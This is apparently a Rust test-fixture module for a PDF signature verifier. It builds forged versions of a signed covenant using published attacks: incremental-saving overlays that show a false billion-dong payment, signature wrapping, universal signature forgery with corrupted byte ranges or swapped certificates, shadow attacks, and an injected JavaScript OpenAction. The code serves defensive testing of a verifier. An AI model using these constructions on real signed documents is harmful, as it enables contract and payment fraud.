//! The published attack families on PDF signatures, each derived from our own
//! signed covenant with one signature (`n = 1`, U01) or several (`n = 3`,
//! U01..U03): Incremental Saving (ISA), Signature Wrapping (SWA) and Universal
//! Signature Forgery (USF) of Mladenov et al. 2019, the Shadow attacks (hide,
//! replace, hide-and-replace) of Mainka et al. 2021, and the Evil Annotation
//! and Sneaky Signature attacks on certified (DocMDP) documents of Mainka et
//! al. 2021; plus truncation and bytes appended after the last revision.

use std::collections::BTreeMap;

use der::{Decode, Encode};

use crate::pdf::{Dict, Limits, ObjRef, Object, PdfFile, PdfString, XrefEntry, serialize_object};

use super::support::*;

// ---------------------------------------------------------------- helpers

/// The covenant signed by U01..U0n (the real signer).
pub fn signed(n: usize) -> Vec<u8> {
    fixture().signed[n - 1].clone()
}

/// `base` signed by U01..U0n with the real signer.
fn sign_n(base: &[u8], n: usize) -> Vec<u8> {
    let f = fixture();
    let mut cur = base.to_vec();
    for (i, time) in TIMES.iter().enumerate().take(n) {
        cur = sign_field(&cur, &format!("U{:02}", i + 1), &f.leaders[i], time);
    }
    cur
}

fn parse(bytes: &[u8]) -> PdfFile {
    PdfFile::parse(bytes, &Limits::default()).unwrap()
}

fn rect(x1: i64, y1: i64, x2: i64, y2: i64) -> Object {
    Object::Array(vec![
        Object::Integer(x1),
        Object::Integer(y1),
        Object::Integer(x2),
        Object::Integer(y2),
    ])
}

fn text(s: &str) -> Object {
    crate::sign::text_string(s)
}

/// The content streams of page `n`, in order.
fn contents_of(file: &PdfFile, n: usize) -> Vec<ObjRef> {
    let page = dict_of(file, page_ref(file, n));
    match page.get(b"Contents").unwrap() {
        Object::Reference(r) => match file.resolve_current(*r).unwrap() {
            Object::Array(items) => items.iter().filter_map(Object::as_reference).collect(),
            _ => vec![*r],
        },
        Object::Array(items) => items.iter().filter_map(Object::as_reference).collect(),
        _ => panic!("page {n} has no content"),
    }
}

/// `obj` resolved as of the newest revision.
fn resolved(file: &PdfFile, obj: &Object) -> Object {
    match obj {
        Object::Reference(r) => file.resolve_current(*r).unwrap(),
        o => o.clone(),
    }
}

/// A form XObject with `content`, `w` by `h` points.
fn form_xobject(w: i64, h: i64) -> Dict {
    Dict::new()
        .with("Type", Object::name("XObject"))
        .with("Subtype", Object::name("Form"))
        .with("BBox", rect(0, 0, w, h))
        .with("Resources", Object::Dictionary(Dict::new()))
}

/// Page `n`'s dictionary with `obj` appended to its `/Annots`.
fn page_with_annot(file: &PdfFile, n: usize, obj: Object) -> (ObjRef, Dict) {
    let page = page_ref(file, n);
    let mut pd = dict_of(file, page);
    let mut annots = match pd.get(b"Annots") {
        Some(a) => resolved(file, a).as_array().unwrap().to_vec(),
        None => Vec::new(),
    };
    annots.push(obj);
    pd.set("Annots", Object::Array(annots));
    (page, pd)
}

/// The catalog with `field` added to `/AcroForm /Fields` (direct in our covenant).
fn catalog_with_field(file: &PdfFile, field: ObjRef) -> (ObjRef, Dict) {
    let root = root_of(file);
    let mut cat = dict_of(file, root);
    let mut acro = resolved(file, cat.get(b"AcroForm").unwrap())
        .as_dict()
        .unwrap()
        .clone();
    let mut fields = resolved(file, acro.get(b"Fields").unwrap())
        .as_array()
        .unwrap()
        .to_vec();
    fields.push(Object::Reference(field));
    acro.set("Fields", Object::Array(fields));
    cat.set("AcroForm", Object::Dictionary(acro));
    (root, cat)
}

/// A classic cross-reference table listing `entries` (in use).
fn table(entries: &BTreeMap<u32, (usize, u16)>) -> Vec<u8> {
    let mut out = b"xref\n".to_vec();
    if entries.is_empty() {
        out.extend_from_slice(b"0 1\n0000000000 65535 f\r\n");
    }
    for (num, (off, generation)) in entries {
        out.extend_from_slice(format!("{num} 1\n{off:010} {generation:05} n\r\n").as_bytes());
    }
    out
}

/// A section listing `entries` with a trailer: the previous trailer with
/// `/Prev` naming it and optionally `/Root` replaced.
fn xref_section(
    file: &PdfFile,
    entries: &BTreeMap<u32, (usize, u16)>,
    root: Option<ObjRef>,
) -> Vec<u8> {
    let last = file.revisions().last().unwrap();
    let mut out = table(entries);
    let mut trailer = last.trailer.clone();
    trailer.set(
        "Prev",
        Object::Integer(i64::try_from(last.xref_offset).unwrap()),
    );
    if let Some(r) = root {
        trailer.set("Root", Object::Reference(r));
    }
    out.extend_from_slice(b"trailer\n");
    serialize_object(&Object::Dictionary(trailer), &mut out);
    out.push(b'\n');
    out
}

/// An update of `bytes` that is nothing but a section (no objects): each
/// entry points object `num` at an offset of the earlier revisions.
fn xref_only_update(
    bytes: &[u8],
    entries: &BTreeMap<u32, (usize, u16)>,
    root: Option<ObjRef>,
) -> Vec<u8> {
    let file = parse(bytes);
    let mut out = bytes.to_vec();
    let at = out.len();
    out.extend_from_slice(&xref_section(&file, entries, root));
    out.extend_from_slice(format!("startxref\n{at}\n%%EOF\n").as_bytes());
    out
}

/// `num 0 obj` holding a stream with `data`.
fn raw_stream(num: u32, data: &[u8]) -> Vec<u8> {
    let mut o = format!("{num} 0 obj\n<</Length {}>>\nstream\n", data.len()).into_bytes();
    o.extend_from_slice(data);
    o.extend_from_slice(b"\nendstream\nendobj\n");
    o
}

/// Offset of `num 0 obj` as of the newest revision.
fn offset_of(file: &PdfFile, num: u32) -> usize {
    match file.xref_entry(num, file.last_revision()).unwrap().1 {
        XrefEntry::InUse { offset, .. } => offset,
        e => panic!("object {num} is not a plain object: {e:?}"),
    }
}

fn hex_decode(hex: &[u8]) -> Vec<u8> {
    hex.chunks(2)
        .map(|p| u8::from_str_radix(std::str::from_utf8(p).unwrap(), 16).unwrap())
        .collect()
}

fn rfind(hay: &[u8], needle: &[u8]) -> usize {
    hay.windows(needle.len())
        .rposition(|w| w == needle)
        .unwrap_or_else(|| panic!("{} not found", String::from_utf8_lossy(needle)))
}

/// Overwrites `len` bytes at `at` with `new`, padded with spaces (the
/// offsets of everything after stay the same).
fn splice(bytes: &mut [u8], at: usize, len: usize, new: &[u8]) {
    assert!(new.len() <= len, "{} > {len}", new.len());
    let slot = &mut bytes[at..at + len];
    slot.fill(b' ');
    slot[..new.len()].copy_from_slice(new);
}

/// The text that shows "paid one billion" where the covenant has its text.
const PAID: &[u8] = b"BT /F1 18 Tf 1 0 0 rg 72 640 Td (DA THANH TOAN 1.000.000.000 VND) Tj ET";

// ------------------------------------------- Incremental Saving Attacks

/// A new content stream drawn over page 1 (appended to its `/Contents`).
pub fn isa_content_overlay(n: usize) -> Vec<u8> {
    append(&signed(n), |file, upd| {
        let page = page_ref(file, 1);
        let overlay = upd.allocate();
        let mut data = b"q 1 1 1 rg 60 600 480 120 re f Q ".to_vec();
        data.extend_from_slice(PAID);
        upd.put_stream(overlay, Dict::new(), &data).unwrap();
        let mut items: Vec<Object> = contents_of(file, 1)
            .into_iter()
            .map(Object::Reference)
            .collect();
        items.push(Object::Reference(overlay));
        let mut pd = dict_of(file, page);
        pd.set("Contents", Object::Array(items));
        upd.put(page, Object::Dictionary(pd)).unwrap();
    })
}

/// A Square annotation whose appearance (a white box with text) covers page 1's text.
pub fn isa_annotation_overlay(n: usize) -> Vec<u8> {
    append(&signed(n), |file, upd| {
        let ap = upd.allocate();
        let mut data = b"q 1 1 1 rg 0 0 480 120 re f Q ".to_vec();
        data.extend_from_slice(b"BT /Helv 18 Tf 0 0 0 rg 10 50 Td (DA THANH TOAN) Tj ET");
        upd.put_stream(ap, form_xobject(480, 120), &data).unwrap();
        let annot = upd.allocate();
        let a = Dict::new()
            .with("Type", Object::name("Annot"))
            .with("Subtype", Object::name("Square"))
            .with("Rect", rect(60, 600, 540, 720))
            .with("F", Object::Integer(4))
            .with(
                "AP",
                Object::Dictionary(Dict::new().with("N", Object::Reference(ap))),
            );
        upd.put(annot, Object::Dictionary(a)).unwrap();
        let (page, pd) = page_with_annot(file, 1, Object::Reference(annot));
        upd.put(page, Object::Dictionary(pd)).unwrap();
    })
}

/// A new text field "SoTien" whose widget appearance covers page 1's text.
pub fn isa_form_field_overlay(n: usize) -> Vec<u8> {
    append(&signed(n), |file, upd| {
        let ap = upd.allocate();
        let mut data = b"q 1 1 1 rg 0 0 480 120 re f Q ".to_vec();
        data.extend_from_slice(b"BT /Helv 18 Tf 0 0 0 rg 10 50 Td (1.000.000.000 VND) Tj ET");
        upd.put_stream(ap, form_xobject(480, 120), &data).unwrap();
        let field = upd.allocate();
        let fd = Dict::new()
            .with("Type", Object::name("Annot"))
            .with("Subtype", Object::name("Widget"))
            .with("FT", Object::name("Tx"))
            .with("T", text("SoTien"))
            .with("V", text("1.000.000.000 VND"))
            .with("F", Object::Integer(4))
            .with("Rect", rect(60, 600, 540, 720))
            .with("P", Object::Reference(page_ref(file, 1)))
            .with(
                "AP",
                Object::Dictionary(Dict::new().with("N", Object::Reference(ap))),
            );
        upd.put(field, Object::Dictionary(fd)).unwrap();
        let (page, pd) = page_with_annot(file, 1, Object::Reference(field));
        upd.put(page, Object::Dictionary(pd)).unwrap();
        let (root, cat) = catalog_with_field(file, field);
        upd.put(root, Object::Dictionary(cat)).unwrap();
    })
}

/// Page 1's first content stream redefined by an object appended after the
/// last `%%EOF`, without any section, trailer or `startxref` (a repairing
/// reader uses it); more than 4 KiB, so the last `startxref` is not near the end.
pub fn isa_xref_less_append(n: usize) -> Vec<u8> {
    let mut bytes = signed(n);
    let k = contents_of(&parse(&bytes), 1)[0];
    let mut data = PAID.to_vec();
    data.extend_from_slice(&vec![b' '; 5000]);
    bytes.extend_from_slice(&raw_stream(k.num, &data));
    bytes
}

/// The same object followed by a trailer (no cross-reference section) and
/// a `startxref` pointing at that trailer.
pub fn isa_xref_less_append_with_trailer(n: usize) -> Vec<u8> {
    let mut bytes = signed(n);
    let file = parse(&bytes);
    let k = contents_of(&file, 1)[0];
    let prev = file.revisions().last().unwrap().xref_offset;
    bytes.extend_from_slice(&raw_stream(k.num, PAID));
    let at = bytes.len();
    bytes.extend_from_slice(
        format!(
            "trailer\n<</Size 900 /Root {} 0 R /Prev {prev}>>\nstartxref\n{at}\n%%EOF\n",
            root_of(&file).num
        )
        .as_bytes(),
    );
    bytes
}

/// An altered catalog (with an `/OpenAction`) appended with a new trailer
/// whose `/Root` names it and whose `/Prev` names the last section, but no
/// cross-reference section: the `startxref` still names the last real section.
pub fn isa_trailer_only_append(n: usize) -> Vec<u8> {
    let mut bytes = signed(n);
    let file = parse(&bytes);
    let prev = file.revisions().last().unwrap().xref_offset;
    let mut cat = dict_of(&file, root_of(&file));
    cat.set(
        "OpenAction",
        Object::Dictionary(Dict::new().with("S", Object::name("JavaScript")).with(
            "JS",
            Object::String(PdfString::literal("app.alert('paid')")),
        )),
    );
    let mut body = Vec::new();
    serialize_object(&Object::Dictionary(cat), &mut body);
    bytes.extend_from_slice(b"900 0 obj\n");
    bytes.extend_from_slice(&body);
    bytes.extend_from_slice(
        format!(
            "\nendobj\ntrailer\n<</Size 901 /Root 900 0 R /Prev {prev}>>\nstartxref\n{prev}\n%%EOF\n"
        )
        .as_bytes(),
    );
    bytes
}

// ----------------------------------------------- Signature Wrapping

/// The covenant signed by U01..U0n where the last signature dictionary has
/// `/Contents` before `/ByteRange` (so `/ByteRange` is in the second signed part).
pub fn contents_first(n: usize) -> Vec<u8> {
    let f = fixture();
    let base = if n == 1 {
        f.unsigned.clone()
    } else {
        signed(n - 1)
    };
    let spec = SigSpec {
        contents_first: true,
        ..SigSpec::default()
    };
    sign_field_spec(
        &base,
        &format!("U{n:02}"),
        &f.leaders[n - 1],
        TIMES[n - 1],
        spec,
        |_, _| {},
    )
}

/// Signature wrapping (Mladenov et al. 2019, SWA): the second signed part
/// (`[b, end)`) is moved to the end of the file, the gap in between holds the
/// CMS (hex or literal), a rewritten `/ByteRange [0 a c d]` pointing at the
/// moved part, a redefinition of page 1's content and a new cross-reference
/// section exactly where the moved part's `startxref` points. The signed bytes
/// `[0, a) ++ [c, c + d)` are unchanged when `/ByteRange` was in the second part.
fn wrap(signed: &[u8], literal: bool) -> Vec<u8> {
    let file = parse(signed);
    let last = file.revisions().last().unwrap();
    let x = last.xref_offset;
    let (a, b) = last_gap(signed);
    let end = signed.len();
    let part2 = &signed[b..];
    let dict_end = part2.windows(7).position(|w| w == b"endobj\n").unwrap() + 7;
    let mut tail = part2[..dict_end].to_vec();
    let mut head = signed[..a].to_vec();
    let der = crate::cms::trim_der_padding(&hex_decode(&signed[a + 1..b - 1]))
        .unwrap()
        .to_vec();
    let mut contents = Vec::new();
    let s = if literal {
        PdfString::literal(der)
    } else {
        PdfString::hex(der)
    };
    serialize_object(&Object::String(s), &mut contents);
    let k = contents_of(&file, 1)[0];
    let k_at = a + contents.len() + tail.len();
    let kobj = raw_stream(k.num, PAID);
    let mut entries: BTreeMap<u32, (usize, u16)> = BTreeMap::new();
    for (r, e) in last.defined_objects() {
        if let XrefEntry::InUse { offset, .. } = e {
            entries.insert(r.num, (offset, r.generation));
        }
    }
    entries.insert(k.num, (k_at, k.generation));
    let mut section = table(&entries);
    section.extend_from_slice(b"trailer\n");
    serialize_object(&Object::Dictionary(last.trailer.clone()), &mut section);
    section.push(b'\n');
    let c = x + section.len();
    let d = end - b;
    // Rewrite /ByteRange where it is, keeping its width.
    let key = b"/ByteRange [";
    let rewrite = |buf: &mut Vec<u8>| {
        let at = rfind(buf, key) + key.len();
        let close = at + buf[at..].iter().position(|&ch| ch == b']').unwrap();
        let numbers = format!("0 {a} {c} {d}");
        splice(buf, at, close - at, numbers.as_bytes());
    };
    if tail.windows(key.len()).any(|w| w == key) {
        rewrite(&mut tail);
    } else {
        rewrite(&mut head);
    }
    let mut out = head;
    out.extend_from_slice(&contents);
    out.extend_from_slice(&tail);
    assert_eq!(out.len(), k_at);
    out.extend_from_slice(&kobj);
    assert!(out.len() <= x, "no room before the section");
    out.resize(x, b' ');
    out.extend_from_slice(&section);
    assert_eq!(out.len(), c);
    out.extend_from_slice(part2);
    out
}

/// SWA with the CMS kept as a hex string (`/ByteRange` after `/Contents`).
pub fn swa_hex(n: usize) -> Vec<u8> {
    wrap(&contents_first(n), false)
}

/// SWA with the CMS written as a literal string.
pub fn swa_literal(n: usize) -> Vec<u8> {
    wrap(&contents_first(n), true)
}

/// SWA on the real signer's output (`/ByteRange` before `/Contents`, so
/// rewriting it also changes the signed bytes).
pub fn swa_real_signer(n: usize) -> Vec<u8> {
    wrap(&signed(n), false)
}

// ----------------------------------------- Universal Signature Forgery

/// The last signature dictionary of `bytes` (the newest revision's object with a
/// `/ByteRange`, whoever wrote it): its start (`<<`) and its `endobj`.
fn last_sig_dict(bytes: &[u8]) -> (usize, usize) {
    let file = parse(bytes);
    let last = file.revisions().last().unwrap();
    let (span, _) = last
        .defined_objects()
        .filter_map(|(r, _)| {
            let obj = file.resolve_current(r).ok()?;
            let is_sig = obj.as_dict()?.get(b"ByteRange").is_some();
            Some((file.object_span(r, file.last_revision())?, is_sig))
        })
        .find(|(_, is_sig)| *is_sig)
        .unwrap();
    let start = span.0 + bytes[span.0..].windows(2).position(|w| w == b"<<").unwrap();
    let end = span.0
        + bytes[span.0..]
            .windows(6)
            .position(|w| w == b"endobj")
            .unwrap();
    (start, end)
}

/// Replaces the value of `key` (up to the next `/`-key or `>>`, or the
/// bracketed / delimited value) in the last signature dictionary.
fn edit_value(bytes: &mut [u8], key: &[u8], new: Option<&[u8]>) {
    let (start, end) = last_sig_dict(bytes);
    let rel = bytes[start..end]
        .windows(key.len() + 1)
        .position(|w| &w[..key.len()] == key && w[key.len()].is_ascii_whitespace())
        .unwrap();
    let key_at = start + rel;
    let v = key_at + key.len() + 1;
    let mut close = match bytes[v] {
        b'[' => v + bytes[v..].iter().position(|&c| c == b']').unwrap() + 1,
        b'<' => v + bytes[v..].iter().position(|&c| c == b'>').unwrap() + 1,
        b'/' => {
            v + 1
                + bytes[v + 1..]
                    .iter()
                    .position(|c| c.is_ascii_whitespace() || *c == b'/' || *c == b'>')
                    .unwrap()
        }
        other => panic!("unexpected value start {}", other as char),
    };
    // Signers pad the byte range inside (ours) or after (pyHanko) its brackets.
    while bytes.get(close) == Some(&b' ') && bytes.get(close + 1) == Some(&b' ') {
        close += 1;
    }
    match new {
        Some(value) => splice(bytes, v, close - v, value),
        None => splice(bytes, key_at, close - key_at, b""),
    }
}

fn usf(n: usize, key: &[u8], new: Option<&[u8]>) -> Vec<u8> {
    let mut bytes = signed(n);
    edit_value(&mut bytes, key, new);
    bytes
}

pub fn usf_contents_empty(n: usize) -> Vec<u8> {
    usf(n, b"/Contents", Some(b"<>"))
}

pub fn usf_contents_zeros(n: usize) -> Vec<u8> {
    let mut bytes = signed(n);
    let (a, b) = last_gap(&bytes);
    bytes[a + 1..b - 1].fill(b'0');
    bytes
}

pub fn usf_contents_null(n: usize) -> Vec<u8> {
    usf(n, b"/Contents", Some(b"null"))
}

pub fn usf_contents_missing(n: usize) -> Vec<u8> {
    usf(n, b"/Contents", None)
}

pub fn usf_byte_range_empty(n: usize) -> Vec<u8> {
    usf(n, b"/ByteRange", Some(b"[]"))
}

pub fn usf_byte_range_null(n: usize) -> Vec<u8> {
    usf(n, b"/ByteRange", Some(b"null"))
}

pub fn usf_byte_range_missing(n: usize) -> Vec<u8> {
    usf(n, b"/ByteRange", None)
}

fn usf_byte_range(n: usize, f: impl Fn(usize, usize, usize) -> String) -> Vec<u8> {
    let bytes = signed(n);
    let (a, b) = last_gap(&bytes);
    let c = bytes.len() - b;
    let new = f(a, b, c);
    usf(n, b"/ByteRange", Some(new.as_bytes()))
}

pub fn usf_byte_range_negative(n: usize) -> Vec<u8> {
    usf_byte_range(n, |a, b, c| format!("[0 {a} -{b} {c}]"))
}

/// The second range starts inside the first one.
pub fn usf_byte_range_overlapping(n: usize) -> Vec<u8> {
    usf_byte_range(n, |a, b, c| format!("[0 {b} {a} {}]", c + (b - a)))
}

/// The signed range stops 100 bytes before the end of the file.
pub fn usf_byte_range_partial(n: usize) -> Vec<u8> {
    usf_byte_range(n, |a, b, c| format!("[0 {a} {b} {}]", c - 100))
}

/// Six numbers: a third range appended.
pub fn usf_byte_range_six_numbers(n: usize) -> Vec<u8> {
    usf_byte_range(n, |a, b, c| format!("[0 {a} {b} {c} 0 1]"))
}

pub fn usf_filter_other(n: usize) -> Vec<u8> {
    usf(n, b"/Filter", Some(b"/Adobe.PPKMS"))
}

pub fn usf_filter_unknown(n: usize) -> Vec<u8> {
    usf(n, b"/Filter", Some(b"/Giaouoc.X"))
}

pub fn usf_sub_filter_rsa_sha1(n: usize) -> Vec<u8> {
    usf(n, b"/SubFilter", Some(b"/adbe.x509.rsa_sha1"))
}

pub fn usf_sub_filter_timestamp(n: usize) -> Vec<u8> {
    usf(n, b"/SubFilter", Some(b"/ETSI.RFC3161"))
}

/// The CMS of the last signature, rebuilt by `edit` and written back into
/// the (unsigned) `/Contents` gap, zero-padded.
fn edit_cms(n: usize, edit: impl FnOnce(&mut cms::signed_data::SignedData)) -> Vec<u8> {
    use cms::content_info::ContentInfo;
    use cms::signed_data::SignedData;
    let mut bytes = signed(n);
    let (a, b) = last_gap(&bytes);
    let der = crate::cms::trim_der_padding(&hex_decode(&bytes[a + 1..b - 1]))
        .unwrap()
        .to_vec();
    let mut ci = ContentInfo::from_der(&der).unwrap();
    let mut sd: SignedData = ci.content.decode_as().unwrap();
    edit(&mut sd);
    ci.content = der::Any::encode_from(&sd).unwrap();
    let new = ci.to_der().unwrap();
    let hex: String = new.iter().map(|x| format!("{x:02X}")).collect();
    assert!(hex.len() <= b - a - 2);
    bytes[a + 1..b - 1].fill(b'0');
    bytes[a + 1..a + 1 + hex.len()].copy_from_slice(hex.as_bytes());
    bytes
}

fn cert_choice(c: &x509_cert::Certificate) -> cms::cert::CertificateChoices {
    ::cms::cert::CertificateChoices::Certificate(c.clone())
}

/// The certificate of another unit's leader put in place of the signer's,
/// with the signer identifier naming it; the signature value is kept.
pub fn usf_swapped_certificate(n: usize) -> Vec<u8> {
    let other = fixture().leaders[n % 5].cert.clone();
    edit_cms(n, |sd| {
        let set = vec![cert_choice(&other), cert_choice(&fixture().ca)];
        sd.certificates = Some(cms::signed_data::CertificateSet(
            der::asn1::SetOfVec::try_from(set).unwrap(),
        ));
        let mut infos = sd.signer_infos.0.clone().into_vec();
        infos[0].sid = cms::signed_data::SignerIdentifier::IssuerAndSerialNumber(
            ::cms::cert::IssuerAndSerialNumber {
                issuer: other.tbs_certificate.issuer.clone(),
                serial_number: other.tbs_certificate.serial_number.clone(),
            },
        );
        sd.signer_infos =
            ::cms::signed_data::SignerInfos(der::asn1::SetOfVec::try_from(infos).unwrap());
    })
}

/// Another unit's certificate in place of the signer's, the signer
/// identifier unchanged (it names a certificate that is not carried).
pub fn usf_swapped_certificate_same_sid(n: usize) -> Vec<u8> {
    let other = fixture().leaders[n % 5].cert.clone();
    edit_cms(n, |sd| {
        let set = vec![cert_choice(&other), cert_choice(&fixture().ca)];
        sd.certificates = Some(cms::signed_data::CertificateSet(
            der::asn1::SetOfVec::try_from(set).unwrap(),
        ));
    })
}

/// Another unit's certificate added next to the signer's: harmless, the
/// signer is still found by its identifier.
pub fn legit_extra_certificate_in_cms(n: usize) -> Vec<u8> {
    let other = fixture().leaders[n % 5].cert.clone();
    edit_cms(n, |sd| {
        let mut set = sd.certificates.clone().unwrap().0;
        set.insert(cert_choice(&other)).unwrap();
        sd.certificates = Some(cms::signed_data::CertificateSet(set));
    })
}

// --------------------------------------------------------- Shadow attacks

/// Objects prepared before signing (Mainka et al. 2021, shadow attacks).
#[derive(Debug, Clone, Copy)]
pub struct Prepared {
    /// A white box over the malicious text drawn before it (the last
    /// content stream of page 1).
    pub overlay: ObjRef,
    /// An empty stream.
    pub empty: ObjRef,
    /// A font of page 1 (`/FSh`), used by `hidden_text`.
    pub font: ObjRef,
    /// Text field "SoTien" (merged with its widget) and its appearance.
    pub field: ObjRef,
    pub field_ap: ObjRef,
    /// A hidden (`/F 2`) FreeText annotation on page 1.
    pub hidden_annot: ObjRef,
    /// An alternative catalog, page tree and page 1 no page tree reaches.
    pub alt_catalog: ObjRef,
    pub alt_pages: ObjRef,
    /// The page tree root and where an alternative version of it was
    /// written (and then overwritten by the next prepared revision).
    pub pages: ObjRef,
    pub pages_shadow_at: usize,
}

fn prepare_shadow() -> (Vec<u8>, Prepared) {
    let unsigned = fixture().unsigned.clone();
    let mut got: Option<Prepared> = None;
    let first = append(&unsigned, |file, upd| {
        let page = page_ref(file, 1);
        let hidden_text = upd.allocate();
        upd.put_stream(hidden_text, Dict::new(), &PAID.replace_font(b"/FSh"))
            .unwrap();
        let overlay = upd.allocate();
        upd.put_stream(overlay, Dict::new(), b"q 1 1 1 rg 60 630 480 40 re f Q")
            .unwrap();
        let empty = upd.allocate();
        upd.put_stream(empty, Dict::new(), b"").unwrap();
        let font = upd.allocate();
        upd.put(
            font,
            Object::Dictionary(
                Dict::new()
                    .with("Type", Object::name("Font"))
                    .with("Subtype", Object::name("Type1"))
                    .with("BaseFont", Object::name("Helvetica"))
                    .with("Encoding", Object::name("WinAnsiEncoding")),
            ),
        )
        .unwrap();
        // Page 1: the hidden text under the overlay, and the font.
        let mut pd = dict_of(file, page);
        let mut items: Vec<Object> = contents_of(file, 1)
            .into_iter()
            .map(Object::Reference)
            .collect();
        items.push(Object::Reference(hidden_text));
        items.push(Object::Reference(overlay));
        pd.set("Contents", Object::Array(items));
        let mut res = resolved(file, pd.get(b"Resources").unwrap())
            .as_dict()
            .unwrap()
            .clone();
        let mut fonts = res
            .get(b"Font")
            .map(|f| resolved(file, f).as_dict().unwrap().clone())
            .unwrap_or_default();
        fonts.set("FSh", Object::Reference(font));
        res.set("Font", Object::Dictionary(fonts));
        pd.set("Resources", Object::Dictionary(res));
        // The text field with its appearance.
        let field_ap = upd.allocate();
        upd.put_stream(
            field_ap,
            form_xobject(200, 20),
            b"BT /FSh 12 Tf 2 5 Td (1.000.000 VND) Tj ET",
        )
        .unwrap();
        let field = upd.allocate();
        let fd = Dict::new()
            .with("Type", Object::name("Annot"))
            .with("Subtype", Object::name("Widget"))
            .with("FT", Object::name("Tx"))
            .with("T", text("SoTien"))
            .with("V", text("1.000.000 VND"))
            .with("F", Object::Integer(4))
            .with("Rect", rect(72, 560, 272, 580))
            .with("P", Object::Reference(page))
            .with(
                "AP",
                Object::Dictionary(Dict::new().with("N", Object::Reference(field_ap))),
            );
        upd.put(field, Object::Dictionary(fd)).unwrap();
        // The hidden annotation.
        let hidden_annot = upd.allocate();
        let ad = Dict::new()
            .with("Type", Object::name("Annot"))
            .with("Subtype", Object::name("FreeText"))
            .with("F", Object::Integer(2))
            .with("Rect", rect(60, 600, 540, 720))
            .with("Contents", text("ĐÃ HUỶ"))
            .with(
                "DA",
                Object::String(PdfString::literal("/Helv 36 Tf 1 0 0 rg")),
            );
        upd.put(hidden_annot, Object::Dictionary(ad)).unwrap();
        let mut annots = match pd.get(b"Annots") {
            Some(a) => resolved(file, a).as_array().unwrap().to_vec(),
            None => Vec::new(),
        };
        annots.push(Object::Reference(field));
        annots.push(Object::Reference(hidden_annot));
        pd.set("Annots", Object::Array(annots));
        upd.put(page, Object::Dictionary(pd.clone())).unwrap();
        let (root, cat) = catalog_with_field(file, field);
        upd.put(root, Object::Dictionary(cat.clone())).unwrap();
        // An alternative document nobody reaches: page 1 with other content.
        let pages = cat.get(b"Pages").unwrap().as_reference().unwrap();
        let alt_page = upd.allocate();
        let alt_content = upd.allocate();
        upd.put_stream(alt_content, Dict::new(), PAID).unwrap();
        let mut apd = pd.clone();
        apd.set("Contents", Object::Reference(alt_content));
        apd.remove(b"Annots");
        let alt_pages = upd.allocate();
        apd.set("Parent", Object::Reference(alt_pages));
        upd.put(alt_page, Object::Dictionary(apd)).unwrap();
        let mut tree = dict_of(file, pages);
        let mut kids = tree.get(b"Kids").unwrap().as_array().unwrap().to_vec();
        let idx = kids
            .iter()
            .position(|k| k.as_reference() == Some(page))
            .expect("page 1 is a kid of the root");
        kids[idx] = Object::Reference(alt_page);
        tree.set("Kids", Object::Array(kids));
        upd.put(alt_pages, Object::Dictionary(tree.clone()))
            .unwrap();
        let alt_catalog = upd.allocate();
        let mut acat = cat.clone();
        acat.set("Pages", Object::Reference(alt_pages));
        upd.put(alt_catalog, Object::Dictionary(acat)).unwrap();
        // The page tree root itself, in its alternative version (undone below).
        upd.put(pages, Object::Dictionary(tree)).unwrap();
        got = Some(Prepared {
            overlay,
            empty,
            font,
            field,
            field_ap,
            hidden_annot,
            alt_catalog,
            alt_pages,
            pages,
            pages_shadow_at: 0,
        });
    });
    let mut p = got.unwrap();
    p.pages_shadow_at = offset_of(&parse(&first), p.pages.num);
    // The next prepared revision restores the real page tree root.
    let second = append(&first, |_, upd| {
        let original = parse(&unsigned);
        let tree = dict_of(&original, p.pages);
        upd.put(p.pages, Object::Dictionary(tree)).unwrap();
    });
    (second, p)
}

trait ReplaceFont {
    fn replace_font(&self, name: &[u8]) -> Vec<u8>;
}

impl ReplaceFont for [u8] {
    fn replace_font(&self, name: &[u8]) -> Vec<u8> {
        let at = self.windows(3).position(|w| w == b"/F1").unwrap();
        let mut out = self[..at].to_vec();
        out.extend_from_slice(name);
        out.extend_from_slice(&self[at + 3..]);
        out
    }
}

/// The prepared covenant (before signing) and its objects.
pub fn shadow_prepared() -> &'static (Vec<u8>, Prepared) {
    static P: std::sync::OnceLock<(Vec<u8>, Prepared)> = std::sync::OnceLock::new();
    P.get_or_init(prepare_shadow)
}

/// The prepared covenant signed by U01..U0n: what the signers saw.
pub fn legit_shadow_prepared_then_signed(n: usize) -> Vec<u8> {
    sign_n(&shadow_prepared().0, n)
}

fn shadow(n: usize) -> (Vec<u8>, Prepared) {
    (legit_shadow_prepared_then_signed(n), shadow_prepared().1)
}

/// Hide: the overlay over the hidden text redefined as an empty stream.
pub fn shadow_hide_overlay_emptied(n: usize) -> Vec<u8> {
    let (bytes, p) = shadow(n);
    append(&bytes, |_, upd| {
        upd.put_stream(p.overlay, Dict::new(), b"").unwrap();
    })
}

/// Hide, with no new object: a section alone points the overlay's number
/// at the empty stream of the signed revision.
pub fn shadow_hide_overlay_redirected(n: usize) -> Vec<u8> {
    let (bytes, p) = shadow(n);
    let at = offset_of(&parse(&bytes), p.empty.num);
    xref_only_update(&bytes, &BTreeMap::from([(p.overlay.num, (at, 0))]), None)
}

/// Hide: the annotation hidden when signing (`/F 2`) is made visible.
pub fn shadow_hide_annotation_shown(n: usize) -> Vec<u8> {
    let (bytes, p) = shadow(n);
    append(&bytes, |file, upd| {
        let mut d = dict_of(file, p.hidden_annot);
        d.set("F", Object::Integer(4));
        upd.put(p.hidden_annot, Object::Dictionary(d)).unwrap();
    })
}

/// Replace: the form field's value and appearance.
pub fn shadow_replace_field_value(n: usize) -> Vec<u8> {
    let (bytes, p) = shadow(n);
    append(&bytes, |file, upd| {
        let ap = upd.allocate();
        upd.put_stream(
            ap,
            form_xobject(200, 20),
            b"BT /FSh 12 Tf 2 5 Td (1.000.000.000 VND) Tj ET",
        )
        .unwrap();
        let mut d = dict_of(file, p.field);
        d.set("V", text("1.000.000.000 VND"));
        d.set(
            "AP",
            Object::Dictionary(Dict::new().with("N", Object::Reference(ap))),
        );
        upd.put(p.field, Object::Dictionary(d)).unwrap();
    })
}

/// Replace: only the field's appearance stream, redefined in place.
pub fn shadow_replace_field_appearance(n: usize) -> Vec<u8> {
    let (bytes, p) = shadow(n);
    append(&bytes, |_, upd| {
        upd.put_stream(
            p.field_ap,
            form_xobject(200, 20),
            b"BT /FSh 12 Tf 2 5 Td (1.000.000.000 VND) Tj ET",
        )
        .unwrap();
    })
}

/// Replace: the font, redefined so that the digit 1 shows as 9.
pub fn shadow_replace_font(n: usize) -> Vec<u8> {
    let (bytes, p) = shadow(n);
    append(&bytes, |_, upd| {
